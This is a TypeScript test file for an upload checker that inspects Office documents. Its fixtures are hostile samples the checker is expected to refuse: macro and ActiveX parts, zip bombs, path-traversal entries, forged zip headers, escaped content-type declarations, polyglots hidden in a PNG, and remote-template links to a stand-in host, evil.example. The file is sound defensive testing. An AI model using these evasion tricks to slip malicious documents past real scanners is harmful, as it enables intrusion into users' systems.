import { describe, expect, test } from 'vitest';
import { checkFile } from './file-check.ts';
import { archive, office, picture } from './files.testing.ts';
import { deflatedOffice, lying } from './hidden-files.testing.ts';

const png = await picture('png');
const macroTypes =
  '<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/x" ContentType="application/vnd.ms-office.vbaProject"/></Types>';
/** A document that declares a part to be something. */
const typed = (type: string) =>
  office('docx', {
    '[Content_Types].xml': macroTypes.replace('vbaProject', type),
    'word/x': '<x/>',
  });
const link = (type: string) =>
  `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="http://evil.example/t.dotm" TargetMode="External"/>`;
/** A document with such links. */
const linked = (links: string) =>
  office(
    'docx',
    { 'word/_rels/document.xml.rels': `<Relationships>${links}</Relationships>` },
    undefined,
    'latin1',
  );
const deflated = deflatedOffice('word/document.xml', '<w:document/>'.repeat(1_000));
/** Documents within documents. */
const layered = (depth: number): Buffer =>
  depth === 0
    ? office('xlsx')
    : office(
        'docx',
        { 'word/embeddings/a.docx': layered(depth - 1).toString('latin1') },
        undefined,
        'latin1',
      );

describe('office documents', () => {
  const check = (bytes: Buffer, fileName = 'a.docx') => checkFile(bytes, { fileName, purpose: 'attachment' });

  test('are known by what they declare themselves to be', async () => {
    expect(await check(office('docx'), '合同.docx')).toMatch(/wordprocessingml/);
    expect(await check(office('xlsx'), 'a.xlsx')).toMatch(/spreadsheetml/);
  });

  test.each([
    ['with macros', office('docx', { 'word/vbaProject.bin': 'x' }), 'a.docx', 'file.active'],
    ['with a control', office('docx', { 'word/activeX/activeX1.xml': 'x' }), 'a.docx', 'file.active'],
    ['with an object', office('docx', { 'word/embeddings/oleObject1.bin': 'x' }), 'a.docx', 'file.active'],
    ['that unfolds into a flood', office('docx', {}, 600 * 1_048_576), 'a.docx', 'file.broken'],
    ['that leads out of its folder', office('docx', { '../../evil': 'x' }), 'a.docx', 'file.broken'],
    ['that says less than it unfolds to', lying(deflated, { unfolded: 10 }), 'a.docx', 'file.broken'],
    ['that says more than it unfolds to', lying(deflated, { unfolded: 90_000 }), 'a.docx', 'file.broken'],
    ['whose own head has another size', lying(deflated, { localUnfolded: 10 }), 'a.docx', 'file.broken'],
    [
      'whose own head has another name',
      lying(deflated, { localName: 'word/evil.bin' }),
      'a.docx',
      'file.broken',
    ],
    ['whose own head has another method', lying(deflated, { localMethod: 0 }), 'a.docx', 'file.broken'],
    ['whose entries share their bytes', lying(deflated, { offset: 0 }), 'a.docx', 'file.broken'],
    ['that says its sizes elsewhere', lying(deflated, { unfolded: 0xffffffff }), 'a.docx', 'file.broken'],
    ['with one name twice', office('docx', { 'WORD/document.xml': 'x' }), 'a.docx', 'file.broken'],
    [
      'with macros under another name',
      office('docx', { 'word/media/a.png': '\xd0\xcf\x11\xe0' }, undefined, 'latin1'),
      'a.docx',
      'file.active',
    ],
    [
      'with macros by declaration',
      office('docx', { '[Content_Types].xml': macroTypes }),
      'a.docx',
      'file.active',
    ],
    [
      'with macros in a sheet inside',
      office(
        'docx',
        { 'word/embeddings/s.xlsx': office('xlsx', { 'xl/vbaProject.bin': 'x' }).toString('latin1') },
        undefined,
        'latin1',
      ),
      'a.docx',
      'file.active',
    ],
    ['with a control by an escaped declaration', typed('active&#88;+xml'), 'a.docx', 'file.active'],
    ['with a control by a hexadecimal one', typed('active&#x58;+xml'), 'a.docx', 'file.active'],
    [
      'with a sheet of macros',
      office('xlsx', { 'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>' }),
      'a.xlsx',
      'file.active',
    ],
    ['that fetch a template', linked(link('attachedTemplate')), 'a.docx', 'file.active'],
    ['that fetch an object', linked(link('oleObject')), 'a.docx', 'file.active'],
    ['that fetch a picture', linked(link('image')), 'a.docx', 'file.active'],
    [
      'that fetch by an escaped word',
      linked(link('frame').replace('External', 'E&#120;ternal')),
      'a.docx',
      'file.active',
    ],
    [
      'that fetch behind a sign that ends nothing',
      linked(link('attachedTemplate').replace('Target=', 'Id="a>b" Target=')),
      'a.docx',
      'file.active',
    ],
    [
      'that hide a link behind a comment',
      linked(`<!-- <Relationship " -->${link('attachedTemplate')}`),
      'a.docx',
      'file.broken',
    ],
    [
      'with links in another alphabet',
      linked(Buffer.from(link('attachedTemplate'), 'utf16le').toString('latin1')),
      'a.docx',
      'file.broken',
    ],
    ['in four layers', layered(4), 'a.docx', 'file.broken'],
    ['under another name', office('docx'), 'a.xlsx', 'file.name'],
    ['that is only an archive', archive({ 'a.txt': 'x' }), 'a.docx', 'file.type'],
    ['cut short', office('docx').subarray(0, 300), 'a.docx', 'file.type'],
    [
      'behind something else',
      Buffer.concat([Buffer.from('PK\x03\x04'), office('docx')]),
      'a.docx',
      'file.type',
    ],
    ['in a picture', Buffer.concat([png, office('docx')]), 'a.png', 'file.hidden'],
  ] as const)('%s are refused', async (_, bytes, fileName, why) => {
    await expect(check(bytes, fileName)).rejects.toMatchObject({ key: why });
  });

  test.each([
    ['that are deflated', deflated],
    ['with a sheet inside', layered(1)],
    ['with a link to click', linked(link('hyperlink'))],
    ['with a link inside', linked(link('image').replace(' TargetMode="External"', ''))],
    ['whose sizes follow the data', lying(deflated, { flags: 8, localPacked: 0, localUnfolded: 0 })],
  ])('%s are taken', async (_, bytes) => {
    expect(await check(bytes)).toMatch(/wordprocessingml/);
  });

  test('are not taken where pictures are asked for', async () => {
    const asked = checkFile(office('docx'), { fileName: 'a.docx', purpose: 'letter' });
    await expect(asked).rejects.toMatchObject({ key: 'file.type', detail: { params: { found: 'DOCX' } } });
  });
});
